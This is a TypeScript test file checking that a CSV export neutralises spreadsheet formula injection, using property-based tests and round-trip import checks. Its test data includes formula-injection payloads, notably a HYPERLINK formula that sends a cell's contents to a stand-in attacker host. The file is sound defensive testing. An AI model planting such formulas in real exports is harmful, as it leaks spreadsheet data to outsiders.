import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FORMULA_STRINGS } from '../../test/hostile-files';
import { neutraliseCell, parseCsv, toCsv } from './csv';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV export against formula injection (OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://x"&A2,"x")', `'=HYPERLINK("http://x"&A2,"x")`],
    ['+33 1 23 45 67 89', `'+33 1 23 45 67 89`],
    ['-2+3+cmd', `'-2+3+cmd`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['-12,5', '-12,5'],
    ['-3', '-3'],
    ['Sel de déneigement', 'Sel de déneigement'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('writes %j as %j', (value, expected) => {
    expect(neutraliseCell(value)).toBe(expected);
  });

  it('quotes a neutralised cell in the file: a need labelled =HYPERLINK(…) is text for Excel', () => {
    expect(toCsv([['Libellé'], ['=HYPERLINK("http://attaquant.example/?"&A2,"x")']])).toBe(
      '\uFEFFLibellé\r\n"\'=HYPERLINK(""http://attaquant.example/?""&A2,""x"")"\r\n',
    );
  });

  it('never starts a written cell with a formula character, except plain numbers', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...FORMULA_STRINGS), fc.double().map(String)), (value) => {
        const written = neutraliseCell(value);
        const isPlainNumber = /^-?\d+(?:[.,]\d+)?$/.test(value);
        expect(TRIGGERS.some((t) => written.startsWith(t)) && !isPlainNumber).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('imports back what it exported, formula-looking cells included', () => {
    // A cell typed as '=… in a spreadsheet shows =…: the quote is dropped on import, so such input is left out here.
    const cellArb = fc
      .oneof(fc.string(), fc.constantFrom(...FORMULA_STRINGS, ';', '"', '\r\n', '-1,5'))
      .filter((value) => !(value.startsWith("'") && TRIGGERS.some((t) => value.startsWith(t, 1))));
    fc.assert(
      fc.property(fc.array(fc.array(cellArb, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(parseCsv(toCsv(rows), ';').map((r) => r.cells)).toEqual(rows);
      }),
      { numRuns: 300 },
    );
  });
});
